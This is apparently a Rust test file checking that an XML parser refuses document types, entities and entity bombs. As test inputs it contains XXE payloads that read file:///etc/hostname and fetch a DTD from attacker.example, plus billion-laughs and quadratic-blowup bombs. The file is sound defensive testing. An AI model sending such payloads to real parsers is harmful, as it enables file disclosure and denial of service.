//! Threats 1.3: document types, entities.

use super::{accepted, malformed, refused};
use crate::xml::XmlError;

#[test]
fn dtd_1_internal_entity() {
    let entity = r#"<!DOCTYPE r [<!ENTITY who "admin@nhs.net">]><r>&who;</r>"#;
    assert_eq!(refused(entity), XmlError::Doctype);
    assert_eq!(refused("<r>&who;</r>"), XmlError::Entity);
    assert_eq!(accepted("<r>admin@nhs.net</r>").root().text(), Some("admin@nhs.net"));
}

#[test]
fn dtd_2_default_attribute() {
    let attlist = r#"<!DOCTYPE r [<!ATTLIST r Version CDATA "2.0">]><r/>"#;
    assert_eq!(refused(attlist), XmlError::Doctype);
    assert_eq!(accepted("<r Version='2.0'/>").root().attribute("Version"), Some("2.0"));
}

#[test]
fn dtd_3_namespace_by_default_attribute() {
    let attlist = r#"<!DOCTYPE r [<!ATTLIST r xmlns CDATA #FIXED "urn:a">]><r/>"#;
    assert_eq!(refused(attlist), XmlError::Doctype);
    assert_eq!(accepted("<r xmlns='urn:a'/>").root().namespace(), "urn:a");
}

#[test]
fn dtd_4_attribute_typed_as_id() {
    let typed = r#"<!DOCTYPE r [<!ATTLIST r name ID #IMPLIED>]><r name="_1"/>"#;
    assert_eq!(refused(typed), XmlError::Doctype);
    accepted(r#"<r name="_1"/>"#);
}

#[test]
fn dtd_5_entity_inside_an_id() {
    let inside = r#"<!DOCTYPE r [<!ENTITY x "1">]><r ID="_&x;"/>"#;
    assert_eq!(refused(inside), XmlError::Doctype);
    assert_eq!(refused(r#"<r ID="_&x;"/>"#), XmlError::Entity);
    // A character reference is no entity: the value is what it stands for.
    assert_eq!(accepted(r#"<r ID="_&#49;"/>"#).root().attribute("ID"), Some("_1"));
}

#[test]
fn dtd_6_puzzles() {
    for (puzzle, error) in [
        ("<!DOCTYPE r><r/>", XmlError::Doctype),
        ("<!doctype r><r/>", XmlError::Doctype),
        ("<!DOCTYPE><r/>", XmlError::Doctype),
        ("<!DOCTYPEr><r/>", XmlError::Doctype),
        ("<!DOCTYPE r", XmlError::Doctype),
        ("<!DOCTYPE r [<!-- ]> --> ]><r/>", XmlError::Doctype),
        ("<!DOCTYPE r [<![CDATA[ ]]> ]><r/>", XmlError::Doctype),
        ("<!DOCTYPE r [<!NOTATION n SYSTEM \"]>\">]><r/>", XmlError::Doctype),
        ("<!-- --><!DOCTYPE r><r/>", XmlError::Doctype),
        ("<?xml version=\"1.0\"?>\n<!DOCTYPE r><r/>", XmlError::Doctype),
        ("<r><!DOCTYPE r></r>", XmlError::Doctype),
        ("<r/><!DOCTYPE r>", XmlError::Doctype),
        ("<!ENTITY x 'y'><r/>", XmlError::Doctype),
        ("<r><!ELEMENT r ANY></r>", XmlError::Doctype),
        ("<r><!ATTLIST r a ID #IMPLIED></r>", XmlError::Doctype),
        ("<r><!NOTATION n SYSTEM 'n'></r>", XmlError::Doctype),
        ("<!>", XmlError::Doctype),
        ("<r><![INCLUDE[x]]></r>", malformed("a CDATA section that does not end", 3)),
        ("<r><![IGNORE[x]]></r>", malformed("a CDATA section that does not end", 3)),
        ("<r><![cdata[x]]></r>", malformed("a CDATA section that does not end", 3)),
    ] {
        assert_eq!(refused(puzzle), error, "{puzzle}");
    }
    // Inside a comment or a CDATA section the same characters mean nothing.
    accepted("<!-- <!DOCTYPE r> --><r/>");
    let text = accepted("<r><![CDATA[<!DOCTYPE r [<!ENTITY x 'y'>]>]]></r>");
    assert_eq!(text.root().text(), Some("<!DOCTYPE r [<!ENTITY x 'y'>]>"));
}

#[test]
fn xxe_1_external_entity() {
    let file = r#"<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/hostname">]><r>&f;</r>"#;
    assert_eq!(refused(file), XmlError::Doctype);
    accepted("<r>file:///etc/hostname</r>");
}

#[test]
fn xxe_2_parameter_entity_and_external_subset() {
    let parameter = r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">%p;]><r/>"#;
    assert_eq!(refused(parameter), XmlError::Doctype);
    let subset = r#"<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>"#;
    assert_eq!(refused(subset), XmlError::Doctype);
    let public = r#"<!DOCTYPE r PUBLIC "-//X//X" "http://attacker.example/x.dtd"><r/>"#;
    assert_eq!(refused(public), XmlError::Doctype);
    // `%p;` outside a document type is text.
    assert_eq!(accepted("<r>%p;</r>").root().text(), Some("%p;"));
}

#[test]
fn bomb_1_billion_laughs() {
    let bomb = "<!DOCTYPE r [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'>]><r>&c;</r>";
    assert_eq!(refused(bomb), XmlError::Doctype);
    assert_eq!(refused("<r>&c;</r>"), XmlError::Entity);
    assert_eq!(accepted("<r>haha</r>").root().text(), Some("haha"));
}

#[test]
fn bomb_2_quadratic_blow_up() {
    let long = "x".repeat(50_000);
    let uses = "&a;".repeat(1_000);
    let bomb = format!("<!DOCTYPE r [<!ENTITY a '{long}'>]><r>{uses}</r>");
    assert_eq!(refused(bomb), XmlError::Doctype);
    accepted(&format!("<r>{long}</r>"));
}

#[test]
fn entities_other_than_the_five() {
    for name in ["nbsp", "AMP", "Lt", "a b", "", "amp ", "#", "%p"] {
        let found = refused(format!("<r>&{name};</r>"));
        let expected = match name {
            "#" => malformed("character reference", 3),
            _ => XmlError::Entity,
        };
        assert_eq!(found, expected, "{name}");
    }
    let five = accepted("<r a='&lt;&gt;&amp;&apos;&quot;'>&lt;&gt;&amp;&apos;&quot;</r>");
    assert_eq!(five.root().text(), Some("<>&'\""));
    assert_eq!(five.root().attribute("a"), Some("<>&'\""));
}
